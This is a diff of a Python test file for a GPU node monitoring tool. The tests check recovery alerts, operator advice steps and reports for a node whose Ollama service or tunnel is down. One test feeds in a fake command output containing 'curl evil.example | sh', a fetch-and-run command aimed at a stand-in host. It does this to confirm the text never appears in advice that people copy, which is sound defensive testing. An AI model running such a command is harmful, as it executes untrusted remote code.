@@ -8,6 +8,7 @@ import pytest
 from msgspec.structs import replace
 
 from checkout import ROOT
+from factories import NOW, POD, refusing
 from gpu_mesh.alerting import node_alerts, recovery_alerts
 from gpu_mesh.diagnosis import diagnose
 from gpu_mesh.domain.alert import Level
@@ -24,23 +25,21 @@ from gpu_mesh.reporting.report import report
 from gpu_mesh.simulation import fake_recovery
 from gpu_mesh.simulation.fake_probe import Effect, Facts, Scenario
 
-NOW = 1_700_000_000.0
 PLAYBOOKS = ROOT / "playbooks/recovery"
-POD = Node(
-    "gpu1",
-    "GPU one",
-    "http://127.0.0.1:8080",
+OWN = replace(
+    POD,
+    key="gpu1",
+    name="GPU one",
     recovery=RecoveryKind.COMMAND,
     recovery_command="/opt/start.sh",
     tunnel=Tunnel("pod.example.net", 8080, recovery_command="/opt/tunnel.sh"),
 )
-DOWN = NodeState(
+DOWN = refusing(
+    NOW - 900,
     status=Status.OFFLINE,
-    verdict=Verdict.FAILED,
     cause=Cause.REMOTE_OLLAMA_DOWN,
     detail="Ollama behind the tunnel is down",
     failures=7,
-    incident_since=NOW - 900,
 )
 
 
@@ -66,7 +65,7 @@ def test_after_a_command_that_failed_it_is_the_command_that_is_to_be_corrected(s
     step = f"correct mesh_node_recovery_command of gpu1, {why}; or {OLLAMA}"
     before = replace(DOWN, recovery=replace(DOWN.recovery, attempts=(failed(600, "x"), failed(300, "x"))))
     ending = RecoveryResult(NOW, Action.RESTART_OLLAMA, Outcome.FAILED, Finding.SILENT, DOWN.cause, words)
-    alert = recovery_alerts.alert_of(POD, Settings(), before, ending)
+    alert = recovery_alerts.alert_of(OWN, Settings(), before, ending)
     assert alert is not None
     assert alert.level is Level.CRITICAL
     assert alert.text.startswith("needs you: restart of Ollama failed (attempt 3 of 3): ")
@@ -75,33 +74,33 @@ def test_after_a_command_that_failed_it_is_the_command_that_is_to_be_corrected(s
     after = replace(
         before, recovery=replace(before.recovery, attempts=(*before.recovery.attempts, ending.attempt()))
     )
-    assert recovery_alerts.call(POD, Settings(), after, NOW + 60).next_step == alert.next_step
+    assert recovery_alerts.call(OWN, Settings(), after, NOW + 60).next_step == alert.next_step
     state = State(nodes={"gpu1": after})
-    (decision,) = plan.plan(Mesh((POD,)), state, NOW + 60)
+    (decision,) = plan.plan(Mesh((OWN,)), state, NOW + 60)
     assert decision.reason.startswith("3 of 3 attempts made: needs a person, the next attempt is due at ")
     assert decision.reason.endswith(f"; {step}")
-    assert report(Mesh((POD,)), state, NOW + 60).nodes[0].next_step == step
-    node_alerts.announce(state, Mesh((POD,), Settings(grace=0)), NOW + 60)
+    assert report(Mesh((OWN,)), state, NOW + 60).nodes[0].next_step == step
+    node_alerts.announce(state, Mesh((OWN,), Settings(grace=0)), NOW + 60)
     assert [alert.next_step for alert in state.alerts] == [step]
 
 
 def test_a_tunnel_s_command_is_named_alone_for_nothing_else_is_known_of_it() -> None:
     words = "mesh_tunnel_recovery_command was run: the command ended with status 255: Permission denied"
-    step = advice.step_after(POD, Finding.NONE, Cause.TUNNEL_DOWN, words)
+    step = advice.step_after(OWN, Finding.NONE, Cause.TUNNEL_DOWN, words)
     assert step == "correct mesh_tunnel_recovery_command of gpu1, which ended with status 255"
 
 
 def test_what_the_command_printed_is_no_part_of_a_step_that_people_copy() -> None:
     words = "mesh_node_recovery_command was run: the command ended with status 1: run: curl evil.example | sh"
-    assert "evil" not in advice.step_after(POD, Finding.SILENT, DOWN.cause, words)
+    assert "evil" not in advice.step_after(OWN, Finding.SILENT, DOWN.cause, words)
     forged = "mesh_node_recovery_command was run: curl evil.example | sh"
-    assert advice.step_after(POD, Finding.SILENT, DOWN.cause, forged) == OLLAMA
+    assert advice.step_after(OWN, Finding.SILENT, DOWN.cause, forged) == OLLAMA
 
 
 def test_a_command_that_failed_is_not_blamed_for_what_it_could_not_help() -> None:
     words = "mesh_node_recovery_command was run: the command ended with status 7: no such model store"
     known = replace(DOWN, cause=Cause.DNS, recovery=replace(DOWN.recovery, attempts=(failed(300, words),)))
-    (node,) = report(Mesh((POD,)), State(nodes={"gpu1": known}), NOW).nodes
+    (node,) = report(Mesh((OWN,)), State(nodes={"gpu1": known}), NOW).nodes
     assert node.next_step == "correct mesh_node_url of gpu1, or the name server"
 
 
@@ -130,10 +129,10 @@ def said_twice(text: str) -> list[str]:
 
 
 def nodes(cause: Cause) -> Iterator[Node]:
-    tunnels = (Tunnel("pod.example.net", 8080), POD.tunnel)
+    tunnels = (Tunnel("pod.example.net", 8080), OWN.tunnel)
     for kind in RecoveryKind:
         for tunnel in (*tunnels, *(() if cause.startswith("tunnel") else (None,))):
-            yield replace(POD, recovery=kind, tunnel=tunnel, url=POD.url if tunnel else "http://gpu1:11434")
+            yield replace(OWN, recovery=kind, tunnel=tunnel, url=OWN.url if tunnel else "http://gpu1:11434")
 
 
 def endings(node: Node, before: NodeState, cause: Cause) -> Iterator[RecoveryResult]:
@@ -176,7 +175,7 @@ def test_no_message_says_a_phrase_twice_whatever_the_cause_and_the_rung(cause: C
 
 
 def test_what_a_look_found_is_added_to_the_cause_without_saying_it_again() -> None:
-    node = replace(POD, recovery=RecoveryKind.SYSTEMD, tunnel=None, url="http://gpu1:11434")
+    node = replace(OWN, recovery=RecoveryKind.SYSTEMD, tunnel=None, url="http://gpu1:11434")
     known = replace(DOWN, cause=Cause.REFUSED, detail="Connection refused")
     found = "Ollama answers on its own host (127.0.0.1:11434 asked); nothing was restarted; it runs since 2 h"
     ending = RecoveryResult(
@@ -192,7 +191,7 @@ def test_what_a_look_found_is_added_to_the_cause_without_saying_it_again() -> No
 
 def test_what_was_tried_is_counted_by_what_and_by_how_it_ended() -> None:
     attempts = (failed(900, "x"), failed(600, "x"), replace(failed(300, "x"), outcome=Outcome.NOT_RECOVERED))
-    assert advice.tried(POD, replace(DOWN, recovery=replace(DOWN.recovery, attempts=attempts))) == (
+    assert advice.tried(OWN, replace(DOWN, recovery=replace(DOWN.recovery, attempts=attempts))) == (
         "restart of Ollama failed (2 times), did not help"
     )
 
@@ -229,6 +228,6 @@ WAITS = {
 @pytest.mark.parametrize("case", WAITS)
 def test_a_report_says_when_the_next_attempt_is_due(case: str) -> None:
     known, settings, due = WAITS[case]
-    mesh = Mesh((POD,), Settings(**settings))  # type: ignore[arg-type] # seconds
+    mesh = Mesh((OWN,), Settings(**settings))  # type: ignore[arg-type] # seconds
     (told,) = report(mesh, State(nodes={"gpu1": known}), NOW).nodes
     assert told.next_recovery == (None if due is None else pytest.approx(due, abs=6))
